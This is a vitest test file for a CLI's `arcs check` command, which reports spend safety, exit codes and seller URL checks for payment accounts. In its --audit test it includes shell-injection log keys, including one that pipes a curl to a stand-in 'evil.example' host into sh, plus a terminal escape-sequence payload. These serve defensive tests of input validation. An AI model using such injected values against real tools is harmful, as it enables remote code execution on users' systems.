// `arcs check`: its words, its exit codes, and what it says where it cannot say anything.
import type { AccountCheck, SellerCheck } from "@arcs/core/http";
import { attempt } from "@arcs/process";
import { describe, expect, test } from "vitest";

import { type Outcome, runInProcess } from "../../../../process/test/support/run-in-process.ts";
import { type Mistake, testMistakes } from "../../../../process/test/support/test-mistakes.ts";
import { createCheckCommand } from "../../../src/node/cli/check.ts";
import { runClientProgram } from "../../../src/node/cli/main.ts";
import { failure, json, useScriptedServer } from "../../support/scripted-server.ts";

const server = useScriptedServer();
const account = "eip155:8453:0xab5801a7d398351b8be11c439e05c5b3259aec9b";
const check: AccountCheck = {
  account,
  agentId: null,
  claimed: false,
  network: "mainnet-beta",
  safeToSpend: {
    amount: "12.4",
    costToForge: "15",
    outstanding: "2.1",
    held: "0.5",
    currency: "USD",
  },
  lostInDisputes: "0",
  openDisputes: 0,
  lastLostAt: null,
  allowance: true,
  payments: { count: 412, payers: 57, payersWithVoice: 31, since: "2026-03-01" },
  score: { tier: "gold", overall: 781 },
  reading: { state: "complete", from: null, finalUntil: "2026-11-26T01:30:00.000Z" },
  asOf: { log: 918_233, at: "2026-11-26T01:30:02.000Z" },
};
const nothing = { amount: "0", costToForge: "0", outstanding: "0", held: "0", currency: "USD" };
const noPayments = { count: 0, payers: 0, payersWithVoice: 0, since: null };
const unknown: AccountCheck = { ...check, safeToSpend: nothing, payments: noPayments, score: null };

const run = (...args: string[]): Promise<Outcome> =>
  runInProcess(runClientProgram, { args: ["check", ...args], env: { ARCS_API_URL: server().url } });

describe("the words", () => {
  test("begin with what is safe to spend, and end with what to do", async () => {
    server().answer(json(200, check));
    const { code, stdout, stderr } = await run(account, "--at-stake", "0.25");
    expect([code, stderr]).toEqual([0, ""]);
    expect(stdout.split("\n")).toEqual([
      `12.40 USD is safe to spend with ${account} now; gold 781; 412 payments from 57 payers, 31 with a voice, since 2026-03-01.`,
      "At stake: 0.25 USD, which is covered.",
      "Its history would have cost 15.00 to fake; 2.10 of that is being spent, 0.50 held.",
      "Unclaimed: nobody has registered it. Its owner can, and its history stays.",
      "Read: all payments to it up to 2026-11-26T01:30:00.000Z.",
      `Next: hold the amount before you pay, as the trust gate of @arcs/client does by itself: ${server().url}/docs/createHold.`,
      "",
    ]);
    const [{ path, headers } = { path: "", headers: {} }] = server().seen;
    expect(path).toBe(`/check/${encodeURIComponent(account)}`);
    expect(headers).not.toHaveProperty("authorization");
  });

  test("name disputes, the agent, a test network and what is not read", async () => {
    const disputed = {
      lostInDisputes: "0.5",
      openDisputes: 1,
      lastLostAt: "2026-11-01T00:00:00.000Z",
    };
    const reading = { state: "reported", finalUntil: null };
    server().answer(
      json(200, {
        ...check,
        ...disputed,
        reading,
        claimed: true,
        agentId: "7xK",
        network: "devnet",
      }),
    );
    const { stdout } = await run(account);
    expect(stdout).toContain("Claimed: by agent 7xK.\n");
    expect(stdout).toContain(
      "Disputes: 1 open, last lost on 2026-11-01, 0.50 in test money lost and not given back.\n",
    );
    expect(stdout).toContain(
      "Read: payments that somebody reported, or that went to a root; there may be more.\n",
    );
    expect(stdout).toMatch(/^12\.40 in test money is safe to spend with /);
    expect(stdout).toContain("Test network (devnet): money and scores there mean nothing.\n");
  });

  test("of a server cannot move the cursor of a terminal", async () => {
    server().answer(json(200, { ...check, claimed: true, agentId: "\u001B[2J\nforged" }));
    expect((await run(account)).stdout).toContain("by agent \\u{1b}[2J\\u{a}forged.");
  });

  test("are of the chain that --network names", async () => {
    server().answer(json(200, check));
    const address = account.slice("eip155:8453:".length);
    expect(await run(address, "--network", "eip155:8453")).toMatchObject({ code: 0, stderr: "" });
    expect(server().seen[0]?.path).toBe(`/check/${address}?network=eip155%3A8453`);
  });

  test("send nobody to hold an amount where nothing is safe", async () => {
    server().answer(json(200, unknown));
    expect((await run(account)).stdout).toMatch(
      /\nNext: pay nothing, or no more than you can lose\.\n$/,
    );
  });

  test.each([
    [
      "1",
      "0",
      "0",
      "pay less, or in steps that are covered. Its owner can put up a bond: SERVER/docs/reportVoice.",
    ],
    [
      "0",
      "0",
      "0",
      "pay nothing, or no more than you can lose. Its owner can put up a bond: SERVER/docs/reportVoice.",
    ],
    [
      "0",
      "0.5",
      "0",
      "pay nothing, or no more than you can lose; or wait until what others spend and hold is settled. Its owner can put up a bond: SERVER/docs/reportVoice.",
    ],
    [
      "1",
      "0",
      "0.5",
      "pay less, or in steps that are covered; or wait until what others spend and hold is settled. Its owner can put up a bond: SERVER/docs/reportVoice.",
    ],
  ])(
    "advise where %s is safe, %s is being spent and %s held",
    async (amount, outstanding, held, advice) => {
      server().answer(
        json(200, { ...check, safeToSpend: { ...nothing, amount, outstanding, held } }),
      );
      expect((await run(account, "--at-stake", "2")).stdout).toContain(
        `\nNext: ${advice.replace("SERVER", server().url)}\n`,
      );
    },
  );

  test("are one line of JSON for programs", async () => {
    server().answer(json(200, check));
    const { code, stdout } = await run(account, "--at-stake", "99", "--json");
    expect([code, JSON.parse(stdout)]).toEqual([1, { ...check, covered: false }]);
  });
});

describe("the exit code", () => {
  test.each([
    [0, ["--at-stake", "12.4"], check],
    [1, ["--at-stake", "12.400001"], check],
    [1, ["--at-stake", "12.4000001"], check],
    [0, [], check],
    [1, [], unknown],
    [0, [], { ...unknown, claimed: true, agentId: "7xK" }],
    [0, ["--at-stake", "0"], unknown],
  ])("is %d for %j", async (code, args, answer) => {
    server().answer(json(200, answer));
    expect((await run(account, ...args)).code).toBe(code);
  });

  test("is 1 for an account that nobody knows", async () => {
    server().answer(failure(404, "agent_not_found"));
    const { code, stdout } = await run("agt_nobody");
    expect(code).toBe(1);
    expect(stdout).toContain("Nothing is known of agt_nobody: nothing is safe to spend with it.");
  });

  test("is 2 where the server fails, or is another one", async () => {
    server().answer(failure(403, "insufficient_permissions"));
    expect(await run(account)).toMatchObject({ code: 2, stdout: "" });
    server().answer(json(200, { hello: "world" }));
    const { code, stderr } = await run(account);
    expect([code, stderr]).toEqual([
      2,
      "the server answered with no check of an account; is it one of ARCS? (server_invalid_answer)\n",
    ]);
    server().answer(json(200, { ...check, account: account.replace("ab58", "ab59") }));
    const another = {
      code: 2,
      stdout: "",
      stderr: "the server answered about another account (server_invalid_answer)\n",
    };
    expect(await run(account)).toMatchObject(another);
  });
});

describe("while the server reads its payments", () => {
  const queued = { ...unknown, reading: { state: "queued", finalUntil: null } };

  test("it is asked again each second, as long as --wait says", async () => {
    const waited: number[] = [];
    const command = createCheckCommand({ pauseFor: async (ms) => void waited.push(ms) });
    const wait = (seconds: string): Promise<Outcome> =>
      runInProcess((args) => attempt(() => command([...args])), {
        args: [account, "--wait", seconds],
        env: { ARCS_API_URL: server().url },
      });
    server().answer(json(200, queued), json(200, queued), json(200, check));
    expect(await wait("5")).toMatchObject({ code: 0, stderr: "" });
    expect(waited).toEqual([1000, 1000]);
    server().answer(json(200, queued));
    const { code, stdout } = await wait("3");
    expect([code, waited.length]).toEqual([1, 5]);
    expect(stdout).toContain(
      "Read: not yet; its payments are being read.\nNext: ask again in a minute.",
    );
  });
});

describe("a seller's URL", () => {
  const offer = {
    scheme: "exact",
    asset: "0x833589fcd6edb6e08f4c7c32d4f71b54bda02913",
    amount: "10000",
  };
  const at = {
    account,
    network: "eip155:8453",
    offers: [offer],
    changing: false,
    check,
    reason: null,
    provedOrigin: null,
  };
  const seller: SellerCheck = {
    url: "https://s.example/",
    x402Version: 2,
    accounts: [at],
    skipped: [],
    note: null,
  };
  const other = { ...at, changing: true, check: null, reason: "it has no history to judge" };

  test("is checked for what it asks, at each account that it names", async () => {
    server().answer(json(200, { ...seller, url: "https://s.example/?a=b" }));
    const { code, stdout } = await run("https://s.example/?a=b");
    expect([code, server().seen[0]?.path]).toEqual([
      0,
      "/check?url=https%3A%2F%2Fs.example%2F%3Fa%3Db",
    ]);
    expect(stdout).toContain(
      "https://s.example/?a=b asks to be paid at 1 account (x402 version 2).\n",
    );
    expect(stdout).toContain("At stake: 0.01 USD, which is covered.\n");
    expect(stdout).not.toContain("It has signed");
    server().answer(
      json(200, { ...seller, accounts: [{ ...at, provedOrigin: "https://s.example" }] }),
    );
    const proved = await run("https://s.example/");
    expect(proved.stdout).toContain("It has signed that it belongs to https://s.example.\n");
    server().answer(json(200, { ...seller, accounts: [at, other] }));
    const changing = await run("https://s.example/");
    expect(changing.code).toBe(1);
    expect(changing.stdout).toContain(
      `Nothing is safe to spend with ${account} on eip155:8453: it has no history to judge.`,
    );
  });

  test("is not covered by less than it asks, whatever else it offers", async () => {
    const much = { ...offer, amount: "12400001" };
    server().answer(json(200, { ...seller, accounts: [{ ...at, offers: [offer, much] }] }));
    expect((await run("https://s.example/")).code).toBe(1);
    expect((await run("https://s.example/", "--at-stake", "1")).code).toBe(0);
  });

  test("is not covered where a price is not known, unless the caller says what is at stake", async () => {
    const odd = { ...offer, asset: "0x1111111111111111111111111111111111111111" };
    const much = { ...offer, amount: "12400001" };
    for (const offers of [[much, odd], [odd]]) {
      server().answer(json(200, { ...seller, accounts: [{ ...at, offers }] }));
      const { code, stdout } = await run("https://s.example/");
      expect([code, stdout]).toEqual([
        1,
        expect.stringContaining("not covered: name the amount with --at-stake"),
      ]);
      expect((await run("https://s.example/", "--at-stake", "1")).code).toBe(0);
    }
  });

  test("is not covered where an entry of its answer was not read: wallets may read and pay it", async () => {
    const skipped = [{ position: 1, reason: "amount must be a whole number as text" }];
    server().answer(json(200, { ...seller, skipped }));
    expect((await run("https://s.example/", "--at-stake", "1")).code).toBe(1);
  });

  test("is not answered by what is about another URL, or another account than it names", async () => {
    const stderr = "the server answered about another seller or account (server_invalid_answer)\n";
    for (const answer of [
      { ...seller, url: "https://other.example/" },
      {
        ...seller,
        accounts: [{ ...at, check: { ...check, account: `eip155:1:${account.split(":")[2]}` } }],
      },
    ]) {
      server().answer(json(200, answer));
      expect(await run("https://s.example/")).toMatchObject({ code: 2, stdout: "", stderr });
    }
  });

  test("that is none ends with 2, and the server's words", async () => {
    server().answer(failure(400, "invalid_request"));
    expect(await run("https://s.example/")).toMatchObject({
      code: 2,
      stderr: expect.stringContaining("invalid_request"),
    });
  });
});

test("--audit prints the command that computes it again", async () => {
  server().answer(json(200, check), (response) => void response.end("log.example+1+AAAA\n"));
  const { stdout } = await run(account, "--audit");
  const { url } = server();
  expect(stdout.split("\n").at(-2)).toBe(
    `npx -p @arcs/audit -p @arcs/evm arcs-audit --key 'log.example+1+AAAA' --state arcs-audit-127.0.0.1 --once --rpc "eip155:8453=$RPC_URL" ${url}/log`,
  );
});

test.each(["l+1+A';curl${IFS}evil.example|sh;'", "l+1+$(id)", "+1+AAAA"])(
  "--audit prints no command with a key that a shell would run: %s",
  async (key) => {
    server().answer(json(200, check), (response) => void response.end(key));
    const { code, stdout, stderr } = await run(account, "--audit");
    expect([code, stdout]).toEqual([2, ""]);
    expect(stderr).toContain("/log/key must be the key of a log (received something else)");
  },
);

const mistakes: readonly Mistake[] = [
  ["check", "name an account, an agent, a URL or a domain to check; see --help"],
  ["check a b", 'unexpected argument "b"; see --help'],
  ["check a --stake 1", "there is no option --stake; see --help"],
  [
    "check a --at-stake 1e3",
    '--at-stake must be an amount in USD, such as "0.25" (received "1e3")',
  ],
  [
    "check a --network x",
    '--network must be a chain, such as eip155:8453, base or devnet (received "x")',
  ],
  [
    "check https://s.example/ --network base",
    "--network is of an account: the answer of a URL names the networks of its own; see --help",
  ],
  ["check a --wait 601", '--wait must be a whole number from 0 to 600 (received "601")'],
  [
    "check a --server x",
    '--server must be a URL that begins with https:// or http:// (received "x")',
  ],
  [
    "check a",
    'ARCS_API_URL must be a URL that begins with https:// or http:// (received "x")',
    { ARCS_API_URL: "x" },
  ],
  ["chek a", "unknown command chek a; did you mean check?"],
];
describe("mistakes", () => {
  testMistakes(runClientProgram, { mistakes });
});
